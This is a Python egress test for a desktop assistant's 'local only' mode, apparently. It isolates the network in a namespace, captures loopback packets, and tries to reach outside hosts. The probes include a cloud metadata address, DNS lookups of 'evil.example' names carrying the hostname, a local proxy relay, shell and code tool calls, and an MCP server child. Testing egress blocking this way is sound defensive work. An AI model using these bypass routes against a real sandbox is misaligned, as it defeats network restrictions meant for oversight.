"""A core that is local only, in a network namespace of its own where every address is reached by way of loopback, so that a capture there sees whatever is sent to anybody.

Run as a program in ``unshare -Urn``; prints what was tried and which packets were for another machine, as JSON. ``open`` as argument: not local only, which proves that the capture sees.
"""

from __future__ import annotations

import asyncio
import contextlib
import fcntl
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
from pathlib import Path
from typing import Any

TARGETS = ("93.184.216.34", "::ffff:93.184.216.34", "2001:db8::1", "64:ff9b::5db8:d822", "2002:5db8:d822::1", "192.168.7.7", "169.254.169.254", "224.0.0.251", "255.255.255.255")
NAMES = ("secret.evil.example", "x.localhost", socket.gethostname() + ".evil.example", "printer.local")
CHILD = "import socket\nfor a in ('93.184.216.34', '203.0.113.9'):\n    s = socket.socket(); s.settimeout(0.3)\n    try: s.connect((a, 80))\n    except OSError: pass\n"
SERVER = CHILD + "import sys\nsys.stdin.read()\n"


def bring_up_loopback() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        fcntl.ioctl(handle, 0x8914, bytes(struct.pack("16sH22x", b"lo", 0x1 | 0x40)))  # SIOCSIFFLAGS: up, running
    for family, everything in ((("-4",), "0.0.0.0/0"), (("-6",), "::/0")):
        subprocess.run(["ip", *family, "route", "add", "local", everything, "dev", "lo"], check=True)


class Capture:
    """Every packet on loopback that is for another machine: ``(protocol, address, port)``."""

    def __init__(self) -> None:
        self.found: set[tuple[str, str, int]] = set()
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        self._socket.bind(("lo", 0))
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            packet = self._socket.recv(65536)
            kind, body = struct.unpack("!H", packet[12:14])[0], packet[14:]
            if kind == 0x0800:
                protocol, address, rest = body[9], socket.inet_ntop(socket.AF_INET, body[16:20]), body[(body[0] & 15) * 4 :]
            elif kind == 0x86DD:
                protocol, address, rest = body[6], socket.inet_ntop(socket.AF_INET6, body[24:40]), body[40:]
            else:
                continue
            if protocol in (6, 17) and not (address == "::1" or address.startswith("127.")):
                self.found.add(("tcp" if protocol == 6 else "udp", address, struct.unpack("!H", rest[2:4])[0]))


async def relay(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A proxy on this machine: what it is asked for it reaches, with a socket of its own that is not watched."""
    with contextlib.suppress(Exception):
        asked = (await reader.readuntil(b"\r\n\r\n")).split()[1].decode()
        host = asked.removeprefix("http://").split("/")[0].split(":")[0]
        subprocess.run([sys.executable, "-c", f"import socket; s = socket.socket(); s.settimeout(0.3); s.connect(({host!r}, 80))"], check=False, capture_output=True)
    writer.close()


async def try_all(core: Any, work: Path) -> list[str]:
    from core.network.http import make_async_client
    from core.ports import ToolContext
    from tools.mcp.config import ServerConfig

    tried = []

    async def attempt(name: str, deed: Any) -> None:
        try:
            found = deed()
            if asyncio.iscoroutine(found):
                await asyncio.wait_for(found, 5)
            tried.append(f"{name}: went through")
        except BaseException as error:
            tried.append(f"{name}: {type(error).__name__}")

    def connect(address: str, kind: int) -> None:
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind) as handle:
            handle.settimeout(0.3)
            if kind == socket.SOCK_DGRAM:
                handle.sendto(b"x", (address, 53))
            handle.connect((address, 80))

    for address in TARGETS:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            await attempt(f"socket {address}", lambda address=address, kind=kind: connect(address, kind))
        literal = f"[{address}]" if ":" in address else address
        await attempt(f"http {address}", lambda literal=literal: fetch(make_async_client, f"http://{literal}/"))
    loop = asyncio.get_running_loop()
    for name in NAMES:
        await attempt(f"name {name}", lambda name=name: loop.getaddrinfo(name, 80))
        await attempt(f"http {name}", lambda name=name: fetch(make_async_client, f"http://{name}/"))
    async with await asyncio.start_server(relay, "127.0.0.1", 0) as proxy:
        os.environ["HTTP_PROXY"] = os.environ["http_proxy"] = f"http://127.0.0.1:{proxy.sockets[0].getsockname()[1]}"
        await attempt("by a proxy of this machine", lambda: fetch(make_async_client, "http://93.184.216.34/"))
        del os.environ["HTTP_PROXY"], os.environ["http_proxy"]
    context = ToolContext("run_x", "s1", work, core.clock, asyncio.Event())
    for name, args in (("shell.run", {"argv": [sys.executable, "-c", CHILD]}), ("code.run", {"code": CHILD}), ("web.fetch", {"url": "http://93.184.216.34/"})):

        async def call(name: str = name, args: dict[str, Any] = args) -> None:
            await core.tools.perform(await core.tools.prepare(name, args, context), context)

        await attempt(name, call)
    await attempt("a server of this machine", lambda: core.mcp.add(ServerConfig("sender", command=sys.executable, args=("-c", SERVER), timeout_s=3)))
    return tried


async def fetch(make: Any, url: str) -> None:
    async with make(timeout=0.5) as client:
        await client.get(url, follow_redirects=True)


async def main(mode: str) -> None:
    bring_up_loopback()
    capture = Capture()
    with tempfile.TemporaryDirectory() as folder:
        os.environ.update(
            DESKHAND_HOME=f"{folder}/home", DESKHAND_CACHE=f"{folder}/shared", DESKHAND_MODEL="none", PYTHON_KEYRING_BACKEND="keyring.backends.null.Keyring", DESKHAND_PORT="0"
        )
        from app.service.composition import compose
        from core.home import Home
        from core.network.local_only import kept_here

        core = compose(Home(Path(folder) / "home"))
        core.settings.set("privacy.local_only", mode == "all")
        work = Path(folder) / "work"
        work.mkdir()
        with kept_here(mode == "run"):
            tried = await try_all(core, work)
        await asyncio.sleep(0.3)
        rows = [row["host"] for row in core.runs.deps.egress.newest() if not row["allowed"]]
        await core.stop()
    print(json.dumps({"tried": tried, "sent": sorted(capture.found), "refused": rows}))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
